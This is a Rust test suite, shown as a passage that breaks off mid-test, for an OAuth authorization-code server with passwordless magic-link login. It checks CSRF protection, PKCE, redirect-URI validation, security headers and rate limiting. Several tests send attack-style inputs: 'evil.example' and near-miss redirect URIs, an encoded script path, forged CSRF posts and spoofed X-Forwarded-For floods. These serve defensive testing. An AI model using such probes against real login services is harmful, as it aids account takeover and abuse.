//! The magic link's hosted page and the OAuth 2.0 authorization-code grant it ends in, as the
//! seed's API example uses them: a backend starts a login whose `state` holds an authorization
//! request, the email's link leads to a page, the page's button completes the login and
//! redirects to the client with an authorization code, and the token endpoint exchanges it.

use crate::support::*;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use serde_json::{json, Value};

const CALLBACK: &str = "https://app.example/callback";

/// A browser-ish client that does not follow redirects and keeps cookies by hand.
struct Browser {
    client: reqwest::Client,
    base: String,
    cookies: Vec<String>,
    /// The address a proxy in front of the server reports for this browser.
    source: Option<String>,
}

struct Page {
    status: u16,
    headers: reqwest::header::HeaderMap,
    html: String,
}

impl Page {
    fn csrf(&self) -> String {
        let start = self
            .html
            .find("name=\"csrf\" value=\"")
            .expect("a CSRF field")
            + "name=\"csrf\" value=\"".len();
        self.html[start..].split('"').next().unwrap().to_owned()
    }

    fn location(&self) -> Option<String> {
        self.headers
            .get("location")
            .map(|v| v.to_str().unwrap().to_owned())
    }
}

impl Browser {
    fn new(server: &TestServer) -> Browser {
        Browser {
            client: reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .unwrap(),
            base: server.base.clone(),
            cookies: Vec::new(),
            source: None,
        }
    }

    /// A browser at `source`, for a server behind a proxy (`TestServer::start_behind_proxy`).
    fn at(server: &TestServer, source: &str) -> Browser {
        Browser {
            source: Some(source.to_owned()),
            ..Browser::new(server)
        }
    }

    async fn send(&mut self, request: reqwest::RequestBuilder) -> Page {
        let mut request = request;
        if !self.cookies.is_empty() {
            request = request.header("Cookie", self.cookies.join("; "));
        }
        if let Some(source) = &self.source {
            request = request.header("X-Forwarded-For", source);
        }
        let response = request.send().await.unwrap();
        for set in response.headers().get_all("set-cookie") {
            let pair = set.to_str().unwrap().split(';').next().unwrap().to_owned();
            let name = pair.split('=').next().unwrap().to_owned();
            self.cookies.retain(|c| !c.starts_with(&format!("{name}=")));
            self.cookies.push(pair);
        }
        Page {
            status: response.status().as_u16(),
            headers: response.headers().clone(),
            html: response.text().await.unwrap(),
        }
    }

    async fn get(&mut self, path_and_query: &str) -> Page {
        let request = self.client.get(format!("{}{path_and_query}", self.base));
        self.send(request).await
    }

    async fn head(&mut self, path_and_query: &str) -> Page {
        let request = self.client.head(format!("{}{path_and_query}", self.base));
        self.send(request).await
    }

    /// Types a short code into the check-your-email form of a page with its CSRF token.
    async fn type_short_code(&mut self, csrf: &str, code: &str) -> Page {
        self.post_form("/oauth2/one-time-code", &[("csrf", csrf), ("code", code)])
            .await
    }

    async fn post_form(&mut self, path: &str, form: &[(&str, &str)]) -> Page {
        let body = form_urlencoded::Serializer::new(String::new())
            .extend_pairs(form)
            .finish();
        let request = self
            .client
            .post(format!("{}{path}", self.base))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body(body);
        self.send(request).await
    }
}

/// An application with passwordless and an OAuth client; answers its id and client secret.
async fn client_application(server: &TestServer, oauth: Value) -> (String, String) {
    let mut configuration = json!({"authorizedRedirectURLs": [CALLBACK]});
    merge(&mut configuration, oauth);
    let response = server
        .admin(
            "POST",
            "/api/application",
            json!({"application": {
                "name": "Relying party",
                "passwordlessConfiguration": {"enabled": true},
                "loginConfiguration": {"generateRefreshTokens": true},
                "roles": [{"name": "user", "isDefault": true}],
                "oauthConfiguration": configuration,
            }}),
        )
        .await;
    response.assert_status(200);
    let application = &response.json()["application"];
    assert!(
        application["oauthConfiguration"]
            .get("clientSecretHash")
            .is_none(),
        "no hash in responses"
    );
    (
        application["id"].as_str().unwrap().to_owned(),
        application["oauthConfiguration"]["clientSecret"]
            .as_str()
            .expect("the create response shows the secret once")
            .to_owned(),
    )
}

/// The seed's API example: a start whose state is an authorization request, then send. Answers
/// the path and query of the emailed link.
async fn emailed_link(server: &TestServer, application: &str, email: &str, state: Value) -> String {
    // Past the send rate limit's window (5 per user per minute), so a test may ask many times.
    server.clock.advance_secs(61);
    let response = server
        .start_login(application, email, json!({"state": state}))
        .await;
    response.assert_status(200);
    let code = response.json()["code"].as_str().unwrap().to_owned();
    server.send(json!({"code": code})).await.assert_status(200);
    let mail = server.emails().await.pop().expect("one email");
    let html = mail.html.replace("&amp;", "&");
    let start = html.find(PUBLIC_URL).expect("a link to the public URL") + PUBLIC_URL.len();
    let link = html[start..].split('"').next().unwrap().to_owned();
    assert!(
        link.starts_with(&format!("/oauth2/passwordless/{code}?")),
        "{link}"
    );
    link
}

fn authorization_state(application: &str, extra: Value) -> Value {
    let mut state = json!({
        "client_id": application,
        "redirect_uri": CALLBACK,
        "response_type": "code",
        "scope": "openid offline_access",
        "state": "CSRF123",
    });
    merge(&mut state, extra);
    state
}

fn query_of(location: &str) -> Vec<(String, String)> {
    let query = location.split_once('?').map_or("", |(_, q)| q);
    form_urlencoded::parse(query.as_bytes())
        .map(|(k, v)| (k.into_owned(), v.into_owned()))
        .collect()
}

fn parameter(location: &str, name: &str) -> Option<String> {
    query_of(location)
        .into_iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v)
}

async fn token_request(
    server: &TestServer,
    form: &[(&str, &str)],
    basic: Option<(&str, &str)>,
) -> (u16, Value) {
    let body = form_urlencoded::Serializer::new(String::new())
        .extend_pairs(form)
        .finish();
    let mut request = reqwest::Client::new()
        .post(format!("{}/oauth2/token", server.base))
        .header("Content-Type", "application/x-www-form-urlencoded")
        .body(body);
    if let Some((id, secret)) = basic {
        request = request.header(
            "Authorization",
            format!("Basic {}", STANDARD.encode(format!("{id}:{secret}"))),
        );
    }
    let response = request.send().await.unwrap();
    let status = response.status().as_u16();
    assert_eq!(
        response.headers().get("cache-control").unwrap(),
        "no-store",
        "token responses are not cached"
    );
    (status, response.json().await.unwrap())
}

/// Opens the link in `browser` and presses Continue; answers the final response.
async fn continue_from(browser: &mut Browser, link: &str) -> Page {
    let page = browser.get(link).await;
    assert_eq!(page.status, 200, "{}", page.html);
    let path = link.split('?').next().unwrap();
    let csrf = page.csrf();
    browser.post_form(path, &[("csrf", &csrf)]).await
}

/// An application with an OAuth client and one user registered for it.
struct RelyingParty {
    id: String,
    secret: String,
    email: &'static str,
    user: String,
}

async fn relying_party(server: &TestServer, oauth: Value, email: &'static str) -> RelyingParty {
    let (id, secret) = client_application(server, oauth).await;
    let user = server.user(&id, email, json!({})).await;
    RelyingParty {
        id,
        secret,
        email,
        user,
    }
}

impl RelyingParty {
    /// The emailed link of a login started the seed's way; `extra` is merged into the
    /// authorization request the state carries.
    async fn link(&self, server: &TestServer, extra: Value) -> String {
        emailed_link(
            server,
            &self.id,
            self.email,
            authorization_state(&self.id, extra),
        )
        .await
    }

    /// An authorization code: the link opened in a fresh browser, Continue pressed.
    async fn authorization_code(&self, server: &TestServer, extra: Value) -> String {
        let link = self.link(server, extra).await;
        let done = continue_from(&mut Browser::new(server), &link).await;
        assert_eq!(done.status, 302, "{}", done.html);
        parameter(&done.location().unwrap(), "code").unwrap()
    }
}

#[tokio::test]
async fn the_seeds_api_example_ends_in_a_code_the_token_endpoint_exchanges() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "ada@example.com").await;
    let link = client.link(&server, json!({"nonce": "n-0S6"})).await;
    // FusionAuth's default template appends the state's entries to the link.
    assert!(
        link.contains(&format!("&client_id={}", client.id)),
        "{link}"
    );
    assert!(link.contains("&state=CSRF123"), "{link}");

    let mut browser = Browser::new(&server);
    let done = continue_from(&mut browser, &link).await;
    assert_eq!(done.status, 302, "{}", done.html);
    let location = done.location().unwrap();
    assert!(location.starts_with(&format!("{CALLBACK}?")), "{location}");
    assert_eq!(parameter(&location, "state").as_deref(), Some("CSRF123"));
    assert_eq!(
        parameter(&location, "userState").as_deref(),
        Some("Authenticated")
    );
    let code = parameter(&location, "code").expect("an authorization code");
    // S16: the final URL carries the authorization code, never the link's code.
    let link_code = link.split('/').nth(3).unwrap().split('?').next().unwrap();
    assert!(!location.contains(link_code));

    let form = [
        ("grant_type", "authorization_code"),
        ("code", code.as_str()),
        ("redirect_uri", CALLBACK),
    ];
    let redeem = || token_request(&server, &form, Some((&client.id, &client.secret)));
    let (status, tokens) = redeem().await;
    assert_eq!(status, 200, "{tokens}");
    assert_eq!(tokens["token_type"], "Bearer");
    assert_eq!(tokens["userId"], client.user.as_str());
    assert_eq!(tokens["scope"], "openid offline_access");
    assert!(tokens["expires_in"].as_i64().unwrap() > 0);
    assert!(
        tokens["refresh_token"].is_string(),
        "offline_access asks for one"
    );
    let access = verified_claims(
        &server,
        tokens["access_token"].as_str().unwrap(),
        &client.id,
    )
    .await;
    assert_eq!(access["sub"], client.user.as_str());
    assert_eq!(access["roles"], json!(["user"]));
    let id_token = verified_claims(&server, tokens["id_token"].as_str().unwrap(), &client.id).await;
    assert_eq!(id_token["sub"], client.user.as_str());
    assert_eq!(id_token["nonce"], "n-0S6");
    assert_eq!(id_token["email"], "ada@example.com");
    assert!(id_token["auth_time"].is_i64());
    let digest =
        <sha2::Sha256 as sha2::Digest>::digest(tokens["access_token"].as_str().unwrap().as_bytes());
    assert_eq!(id_token["at_hash"], URL_SAFE_NO_PAD.encode(&digest[..16]));

    // S18: the code is single use.
    let (status, replay) = redeem().await;
    assert_eq!(status, 400);
    assert_eq!(replay["error"], "invalid_grant");
    // S10: the used link now shows the expired page.
    let used = browser.get(&link).await;
    assert_eq!(used.status, 404);
    assert!(used.html.contains("expired"), "{}", used.html);
}

#[tokio::test]
async fn s14_get_and_head_never_consume_a_link_and_the_form_needs_its_csrf_cookie() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "grace@example.com").await;
    let link = client.link(&server, json!({})).await;
    let mut scanner = Browser::new(&server);
    for _ in 0..2 {
        assert_eq!(scanner.get(&link).await.status, 200);
        assert_eq!(scanner.head(&link).await.status, 200);
    }
    // A POST without the page's cookie and token does nothing but show the page again.
    let path = link.split('?').next().unwrap();
    let mut forger = Browser::new(&server);
    let forged = forger.post_form(path, &[("csrf", &"x".repeat(43))]).await;
    assert_eq!(forged.status, 403);
    assert!(forged.location().is_none());
    // Still live: the browser that presses Continue completes it, once.
    let mut browser = Browser::new(&server);
    assert_eq!(continue_from(&mut browser, &link).await.status, 302);
    assert_eq!(browser.get(&link).await.status, 404);
}

#[tokio::test]
async fn s15_pages_send_the_security_headers_and_a_host_only_csrf_cookie() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "hedy@example.com").await;
    let link = client.link(&server, json!({})).await;
    let mut browser = Browser::new(&server);
    for page in [
        browser.get(&link).await,
        browser.get("/oauth2/passwordless/unknown").await,
    ] {
        let header = |name: &str| page.headers.get(name).unwrap().to_str().unwrap().to_owned();
        assert_eq!(header("referrer-policy"), "no-referrer");
        assert_eq!(header("cache-control"), "no-store");
        assert_eq!(header("x-content-type-options"), "nosniff");
        let csp = header("content-security-policy");
        assert!(csp.contains("default-src 'none'"), "{csp}");
        assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
        assert!(header("content-type").starts_with("text/html"));
    }
    let first = Browser::new(&server).get(&link).await;
    let cookie = first.headers.get("set-cookie").unwrap().to_str().unwrap();
    // The public URL is https: the cookie is __Host- prefixed, Secure, HttpOnly, SameSite=Lax.
    assert!(cookie.starts_with("__Host-"), "{cookie}");
    for attribute in ["Secure", "HttpOnly", "SameSite=Lax", "Path=/"] {
        assert!(cookie.contains(attribute), "{cookie}");
    }
    assert!(!cookie.contains("Domain"), "{cookie}");
}

#[tokio::test]
async fn s10_unknown_used_and_malformed_links_get_one_expired_page() {
    let server = TestServer::start().await;
    let mut browser = Browser::new(&server);
    let unknown = browser.get("/oauth2/passwordless/no-such-code").await;
    let malformed = browser.get("/oauth2/passwordless/%3Cscript%3E").await;
    let huge = browser
        .get(&format!("/oauth2/passwordless/{}", "a".repeat(300)))
        .await;
    // Equal but for the per-response style nonce.
    let without_nonce = |html: &str| {
        let start = html.find("nonce=\"").unwrap();
        let end = start + html[start..].find('>').unwrap();
        format!("{}{}", &html[..start], &html[end..])
    };
    for page in [&unknown, &malformed, &huge] {
        assert_eq!(page.status, 404);
        assert_eq!(without_nonce(&page.html), without_nonce(&unknown.html));
    }
    let german = browser
        .get("/oauth2/passwordless/no-such-code?locale=de")
        .await;
    assert!(german.html.contains("lang=\"de\""));
    assert!(german.html.contains("abgelaufen"), "{}", german.html);
}

#[tokio::test]
async fn s17_a_near_miss_redirect_uri_gets_an_error_page_and_no_redirect() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "alan@example.com").await;
    for near_miss in [
        "https://app.example/callback/",
        "https://app.example/callback?next=evil",
        "https://app.example.evil.example/callback",
        "http://app.example/callback",
    ] {
        let link = client
            .link(&server, json!({"redirect_uri": near_miss}))
            .await;
        let mut browser = Browser::new(&server);
        let refused = continue_from(&mut browser, &link).await;
        assert_eq!(refused.status, 400, "{near_miss}");
        assert!(refused.location().is_none());
        assert!(
            !refused.html.contains(near_miss),
            "the page does not offer the bad URI"
        );
        // Nothing was consumed: the link still shows its page.
        assert_eq!(browser.get(&link).await.status, 200);
    }
}

fn pairs<'a>(form: &'a [(&'static str, String)]) -> Vec<(&'static str, &'a str)> {
    form.iter().map(|(k, v)| (*k, v.as_str())).collect()
}

fn pkce_pair() -> (String, String) {
    let verifier = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk".to_owned();
    let challenge = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM".to_owned();
    (verifier, challenge)
}

#[tokio::test]
async fn s19_pkce_a_public_client_redeems_only_with_the_right_verifier_and_plain_is_refused() {
    let server = TestServer::start().await;
    let client = relying_party(
        &server,
        json!({"clientAuthenticationPolicy": "NotRequiredWhenUsingPKCE", "proofKeyForCodeExchangePolicy": "Required"}),
        "barbara@example.com",
    )
    .await;
    let (verifier, challenge) = pkce_pair();
    let fresh_code = || {
        client.authorization_code(
            &server,
            json!({"code_challenge": challenge, "code_challenge_method": "S256"}),
        )
    };
    let exchange = |code: String, verifier: Option<String>| {
        let server = &server;
        let application = client.id.clone();
        async move {
            let mut form = vec![
                ("grant_type", "authorization_code".to_owned()),
                ("code", code),
                ("redirect_uri", CALLBACK.to_owned()),
                ("client_id", application),
            ];
            form.extend(verifier.map(|v| ("code_verifier", v)));
            token_request(server, &pairs(&form), None).await
        }
    };
    let wrong_verifier = format!("{}x", &verifier[..42]);
    for bad in [None, Some(wrong_verifier), Some(challenge.clone())] {
        let (status, body) = exchange(fresh_code().await, bad.clone()).await;
        assert_eq!(
            (status, body["error"].as_str()),
            (400, Some("invalid_grant")),
            "{bad:?}"
        );
    }
    let (status, tokens) = exchange(fresh_code().await, Some(verifier)).await;
    assert_eq!(status, 200, "{tokens}");

    // The application requires PKCE: a request without a challenge, or with `plain`, is refused
    // on the page before anything is consumed.
    for extra in [
        json!({}),
        json!({"code_challenge": "abc", "code_challenge_method": "plain"}),
    ] {
        let link = client.link(&server, extra).await;
        let refused = continue_from(&mut Browser::new(&server), &link).await;
        assert_eq!(refused.status, 400, "{}", refused.html);
    }
}

#[tokio::test]
async fn a_confidential_client_must_authenticate_and_only_with_its_own_secret() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "edsger@example.com").await;
    let secret = client.secret.clone();
    let fresh_code = || client.authorization_code(&server, json!({}));
    let form = |code: &str, secret: Option<String>| {
        let mut form = vec![
            ("grant_type", "authorization_code".to_owned()),
            ("code", code.to_owned()),
            ("redirect_uri", CALLBACK.to_owned()),
            ("client_id", client.id.clone()),
        ];
        form.extend(secret.map(|s| ("client_secret", s)));
        form
    };
    let (status, body) =
        token_request(&server, &pairs(&form(&fresh_code().await, None)), None).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (401, Some("invalid_client"))
    );
    let wrong = form(&fresh_code().await, Some(format!("{secret}x")));
    let (status, body) = token_request(&server, &pairs(&wrong), None).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (401, Some("invalid_client"))
    );
    let right = form(&fresh_code().await, Some(secret.clone()));
    let (status, body) = token_request(&server, &pairs(&right), None).await;
    assert_eq!(status, 200, "{body}");
    assert!(body.get("id_token").is_some());
}

#[tokio::test]
async fn the_token_endpoint_answers_rfc_6749_errors_for_bad_requests() {
    let server = TestServer::start().await;
    let (application, secret) = client_application(&server, json!({})).await;
    // (form, status, RFC 6749 error)
    type Case<'a> = (Vec<(&'a str, &'a str)>, u16, &'a str);
    let cases: Vec<Case> = vec![
        (vec![], 400, "invalid_request"),
        (
            vec![("grant_type", "password")],
            400,
            "unsupported_grant_type",
        ),
        (
            vec![
                ("grant_type", "authorization_code"),
                ("redirect_uri", CALLBACK),
            ],
            400,
            "invalid_request",
        ),
        (
            vec![
                ("grant_type", "authorization_code"),
                ("code", "nope"),
                ("redirect_uri", CALLBACK),
                ("client_id", "not-a-uuid"),
            ],
            401,
            "invalid_client",
        ),
        (
            vec![
                ("grant_type", "authorization_code"),
                ("code", "nope"),
                ("redirect_uri", CALLBACK),
                ("client_id", &application),
                ("client_secret", &secret),
            ],
            400,
            "invalid_grant",
        ),
        (
            vec![
                ("grant_type", "authorization_code"),
                ("grant_type", "authorization_code"),
                ("code", "x"),
                ("redirect_uri", CALLBACK),
            ],
            400,
            "invalid_request",
        ),
    ];
    for (form, status, error) in cases {
        let (got, body) = token_request(&server, &form, None).await;
        assert_eq!(
            (got, body["error"].as_str()),
            (status, Some(error)),
            "{form:?}: {body}"
        );
        assert!(body["error_description"].is_string());
    }
    let raw = reqwest::Client::new()
        .post(format!("{}/oauth2/token", server.base))
        .header("Content-Type", "application/x-www-form-urlencoded")
        .body(vec![0xff, 0xfe, b'=', 0x00])
        .send()
        .await
        .unwrap();
    assert_eq!(raw.status(), 400);
}

/// OpenID Connect Core 3.1.2.1: the authorization endpoint takes POST as well as GET; a
/// relying party that posts its request gets the same page, and the same refusal.
#[tokio::test]
async fn the_authorize_endpoint_takes_its_request_as_a_posted_form() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "erlich@example.com").await;
    let mut browser = Browser::new(&server);
    let page = browser
        .post_form(
            "/oauth2/authorize",
            &[
                ("client_id", client.id.as_str()),
                ("redirect_uri", CALLBACK),
                ("response_type", "code"),
                ("scope", "openid"),
                ("state", "posted"),
                ("login_hint", "erlich@example.com"),
            ],
        )
        .await;
    assert_eq!(page.status, 200, "{}", page.html);
    assert_eq!(hidden(&page, "state"), "posted");
    assert_eq!(hidden(&page, "client_id"), client.id);
    assert!(
        page.html.contains("erlich@example.com"),
        "the hint fills the field"
    );
    let refused = browser
        .post_form(
            "/oauth2/authorize",
            &[
                ("client_id", client.id.as_str()),
                ("redirect_uri", "https://evil.example/callback"),
                ("response_type", "code"),
            ],
        )
        .await;
    assert_eq!(
        refused.status, 400,
        "an unknown redirect URI stays on the error page"
    );
    assert!(refused.headers.get("location").is_none());
}

/// The authorize page's URL for `client`, with `extra` parameters.
fn authorize_path(client: &RelyingParty, extra: &[(&str, &str)]) -> String {
    let mut query = form_urlencoded::Serializer::new(String::new());
    query.extend_pairs([
        ("client_id", client.id.as_str()),
        ("redirect_uri", CALLBACK),
        ("response_type", "code"),
        ("scope", "openid"),
        ("state", "xyz"),
    ]);
    query.extend_pairs(extra);
    format!("/oauth2/authorize?{}", query.finish())
}

/// The hidden fields and CSRF token of the authorize page's form, plus `email`.
fn request_form(page: &Page, email: &str) -> Vec<(String, String)> {
    let mut form: Vec<(String, String)> = page
        .html
        .match_indices("<input type=\"hidden\" name=\"")
        .map(|(at, _)| {
            let rest = &page.html[at + "<input type=\"hidden\" name=\"".len()..];
            let name = rest.split('"').next().unwrap().to_owned();
            let value = rest
                .split("value=\"")
                .nth(1)
                .unwrap()
                .split('"')
                .next()
                .unwrap();
            (
                name,
                value
                    .replace("&amp;", "&")
                    .replace("&#x2f;", "/")
                    .replace("&#47;", "/"),
            )
        })
        .collect();
    form.push(("email".to_owned(), email.to_owned()));
    form
}

/// Asks for a link on the hosted page in `browser`; answers the "check your email" page.
async fn ask_for_link(
    browser: &mut Browser,
    client: &RelyingParty,
    email: &str,
    extra: &[(&str, &str)],
) -> Page {
    let authorize = browser.get(&authorize_path(client, extra)).await;
    assert_eq!(authorize.status, 200, "{}", authorize.html);
    assert!(authorize.html.contains("type=\"email\""));
    let form = request_form(&authorize, email);
    let pairs: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    browser.post_form("/oauth2/passwordless", &pairs).await
}

fn link_in(mail: &Email) -> String {
    let html = mail.html.replace("&amp;", "&");
    let start = html.find(PUBLIC_URL).expect("a link") + PUBLIC_URL.len();
    html[start..].split('"').next().unwrap().to_owned()
}

#[tokio::test]
async fn the_hosted_pages_end_in_a_code_a_public_client_redeems_with_pkce() {
    let server = TestServer::start().await;
    let client = relying_party(
        &server,
        json!({"clientAuthenticationPolicy": "NotRequiredWhenUsingPKCE"}),
        "katherine@example.com",
    )
    .await;
    let (verifier, challenge) = pkce_pair();
    let mut browser = Browser::new(&server);
    let asked = ask_for_link(
        &mut browser,
        &client,
        "katherine@example.com",
        &[
            ("code_challenge", &challenge),
            ("code_challenge_method", "S256"),
            ("nonce", "abc"),
        ],
    )
    .await;
    assert_eq!(asked.status, 200, "{}", asked.html);
    assert!(asked.html.contains("Check your email"));
    assert!(
        browser
            .cookies
            .iter()
            .any(|c| c.starts_with("__Host-passwordless-binding=")),
        "{:?}",
        browser.cookies
    );
    let mails = server.emails().await;
    assert_eq!(mails.len(), 1);
    let link = link_in(&mails[0]);

    // In the browser that asked, the link's page completes the login.
    let done = continue_from(&mut browser, &link).await;
    assert_eq!(done.status, 302, "{}", done.html);
    let location = done.location().unwrap();
    assert_eq!(parameter(&location, "state").as_deref(), Some("xyz"));
    let code = parameter(&location, "code").unwrap();
    let (status, tokens) = token_request(
        &server,
        &[
            ("grant_type", "authorization_code"),
            ("code", &code),
            ("redirect_uri", CALLBACK),
            ("client_id", &client.id),
            ("code_verifier", &verifier),
        ],
        None,
    )
    .await;
    assert_eq!(status, 200, "{tokens}");
    let id_token = verified_claims(&server, tokens["id_token"].as_str().unwrap(), &client.id).await;
    assert_eq!(id_token["nonce"], "abc");
    assert_eq!(id_token["sub"], client.user.as_str());
}

#[tokio::test]
async fn s14_a_hosted_link_in_another_browser_signs_nobody_in() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "margaret@example.com").await;
    let mut asking = Browser::new(&server);
    ask_for_link(&mut asking, &client, "margaret@example.com", &[]).await;
    let link = link_in(&server.emails().await[0]);
    let path = link.split('?').next().unwrap().to_owned();

    // A phone, a forwarded mail, a scanner that runs the page and presses what it finds:
    // it has its own CSRF cookie (from the authorize page) but not the binding.
    let mut other = Browser::new(&server);
    let authorize = other.get(&authorize_path(&client, &[])).await;
    let csrf = authorize.csrf();
    let shown = other.get(&link).await;
    assert_eq!(shown.status, 200);
    assert!(
        !shown.html.contains("<form"),
        "no button to press: {}",
        shown.html
    );
    assert!(
        shown.html.contains("browser where you asked"),
        "{}",
        shown.html
    );
    let pressed = other.post_form(&path, &[("csrf", &csrf)]).await;
    assert!(
        pressed.location().is_none(),
        "not signed in: {}",
        pressed.html
    );
    // Claiming a confirmation the tenant does not offer changes nothing.
    let claimed = other
        .post_form(&path, &[("csrf", &csrf), ("confirm", "other-browser")])
        .await;
    assert!(claimed.location().is_none(), "{}", claimed.html);
    assert!(!claimed.html.contains("<form"), "{}", claimed.html);
    // GET and HEAD, twice, and a client without cookies that submits the form of the link's
    // page in the asking browser (what a scanner that copies a page would do): nothing.
    for _ in 0..2 {
        assert_eq!(other.head(&link).await.status, 200);
        assert_eq!(other.get(&link).await.status, 200);
    }
    let mut cookieless = Browser::new(&server);
    let copied = asking.get(&link).await;
    let forged = cookieless
        .post_form(&path, &[("csrf", &copied.csrf())])
        .await;
    assert!(forged.location().is_none(), "{}", forged.html);

    // Nothing was consumed: the asking browser completes it, once.
    let done = continue_from(&mut asking, &link).await;
    assert_eq!(done.status, 302, "{}", done.html);
    assert_eq!(asking.get(&link).await.status, 404);
}

/// A page without what differs from one answer to the next however alike they are: the
/// per-response style nonce and the per-browser CSRF token.
fn strip(html: &str) -> String {
    let mut html = html.to_owned();
    for marker in ["nonce=\"", "name=\"csrf\" value=\""] {
        if let Some(found) = html.find(marker) {
            let start = found + marker.len();
            let end = start + html[start..].find('"').unwrap();
            html.replace_range(start..end, "");
        }
    }
    html
}

#[tokio::test]
async fn s9_an_unknown_address_gets_the_same_page_status_and_cookie_and_no_mail() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "known@example.com").await;
    let mut first = Browser::new(&server);
    let known = ask_for_link(&mut first, &client, "known@example.com", &[]).await;
    let mut second = Browser::new(&server);
    let unknown = ask_for_link(&mut second, &client, "nobody@example.com", &[]).await;
    assert_eq!(known.status, unknown.status);
    assert_eq!(strip(&known.html), strip(&unknown.html));
    let names = |b: &Browser| {
        b.cookies
            .iter()
            .map(|c| c.split('=').next().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    assert_eq!(names(&first), names(&second));
    assert_eq!(
        server.emails().await.len(),
        1,
        "mail only for the known address"
    );
}

#[tokio::test]
async fn s8_s31_hammering_the_form_spends_only_the_hammerers_allowance_and_the_owner_signs_in_with_the_newest_link(
) {
    let server = TestServer::start_behind_proxy().await;
    let client = relying_party(&server, json!({}), "owner@example.com").await;
    let mut attacker = Browser::at(&server, "198.51.100.7");
    let mut statuses = Vec::new();
    for _ in 0..8 {
        statuses.push(
            ask_for_link(&mut attacker, &client, "owner@example.com", &[])
                .await
                .status,
        );
    }
    assert_eq!(&statuses[..5], &[200; 5], "{statuses:?}");
    assert!(statuses[5..].iter().all(|s| *s == 429), "{statuses:?}");
    let limited = ask_for_link(&mut attacker, &client, "owner@example.com", &[]).await;
    assert!(limited.html.contains("Too many"), "{}", limited.html);
    assert_eq!(
        server.emails().await.len(),
        5,
        "nothing sent past the limit"
    );

    // Within the same window the owner asks from their own address, and the newest link signs
    // them in.
    let mut owner = Browser::at(&server, "203.0.113.5");
    let asked = ask_for_link(&mut owner, &client, "owner@example.com", &[]).await;
    assert_eq!(asked.status, 200, "{}", asked.html);
    let newest = link_in(server.emails().await.last().unwrap());
    assert_eq!(continue_from(&mut owner, &newest).await.status, 302);

    // A request from yet another address after the owner's ends nothing of the owner's: the
    // owner's link still signs them in, and the other one's link signs nobody in there.
    ask_for_link(&mut owner, &client, "owner@example.com", &[]).await;
    let owners_link = link_in(server.emails().await.last().unwrap());
    let mut second_attacker = Browser::at(&server, "198.51.100.8");
    let later = ask_for_link(&mut second_attacker, &client, "owner@example.com", &[]).await;
    assert_eq!(later.status, 200);
    let attackers_link = link_in(server.emails().await.last().unwrap());
    assert_ne!(attackers_link, owners_link);
    let shown = owner.get(&attackers_link).await;
    assert!(
        shown.html.contains("browser where you asked"),
        "{}",
        shown.html
    );
    assert_eq!(continue_from(&mut owner, &owners_link).await.status, 302);
}

#[tokio::test]
async fn s8_the_mail_one_inbox_can_be_made_to_receive_is_bounded_whatever_the_sources() {
    let server = TestServer::start_behind_proxy().await;
    let patch = json!({"tenant": {"rateLimitConfiguration": {"sendPasswordless": {"limit": 1, "timePeriodInSeconds": 60}}}});
    server.patch_default_tenant(patch).await;
    let client = relying_party(&server, json!({}), "inbox@example.com").await;
    let mut statuses = Vec::new();
    for i in 0..11 {
        let mut browser = Browser::at(&server, &format!("198.51.100.{}", 20 + i));
        statuses.push(
            ask_for_link(&mut browser, &client, "inbox@example.com", &[])
                .await
                .status,
        );
    }
    // One per source, ten times that for the address across all of them.
    assert_eq!(statuses[..10], [200; 10], "{statuses:?}");
    assert_eq!(statuses[10], 429);
    assert_eq!(server.emails().await.len(), 10);
}

/// N11: the authorization response names the issuer that answered (RFC 9207), the one the
/// discovery document gives, so a client talking to several cannot be mixed up.
#[tokio::test]
async fn n11_the_authorization_response_carries_the_issuer() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "iris@example.com").await;
    let link = client.link(&server, json!({})).await;
    let done = continue_from(&mut Browser::new(&server), &link).await;
    let location = done.location().unwrap();
    assert_eq!(parameter(&location, "iss").as_deref(), Some(PUBLIC_URL));
    assert!(parameter(&location, "code").is_some());
}

#[tokio::test]
async fn s17_the_authorize_page_refuses_unknown_clients_and_near_miss_redirects() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "ida@example.com").await;
    let mut browser = Browser::new(&server);
    for path in [
        "/oauth2/authorize".to_owned(),
        authorize_path(&client, &[]).replace(&client.id, "00000000-0000-4000-8000-000000000000"),
        authorize_path(&client, &[]).replace("callback", "callback%2F"),
        authorize_path(&client, &[]).replace("response_type=code", "response_type=token"),
        authorize_path(
            &client,
            &[("code_challenge", "x"), ("code_challenge_method", "plain")],
        ),
    ] {
        let page = browser.get(&path).await;
        assert_eq!(page.status, 400, "{path}: {}", page.html);
        assert!(page.location().is_none());
        assert!(!page.html.contains("<form"), "{path}");
    }
    let french = browser
        .get(&authorize_path(&client, &[("locale", "fr")]))
        .await;
    assert!(
        french.html.contains("M’envoyer un lien de connexion"),
        "{}",
        french.html
    );
}

/// The short code in an email.
fn one_time_code_in(mail: &Email) -> String {
    let start = mail.html.find("<strong>").expect("a short code") + "<strong>".len();
    mail.html[start..].split('<').next().unwrap().to_owned()
}

#[tokio::test]
async fn the_short_code_from_the_email_finishes_the_login_in_the_browser_that_asked() {
    let server = TestServer::start().await;
    let client = relying_party(&server, json!({}), "radia@example.com").await;
    let mut desktop = Browser::new(&server);
    let asked = ask_for_link(&mut desktop, &client, "radia@example.com", &[]).await;
    let mail = server.emails().await.pop().unwrap();
    let short = one_time_code_in(&mail);
    assert_eq!(short.len(), 6, "the tenant's default: 6 digits");
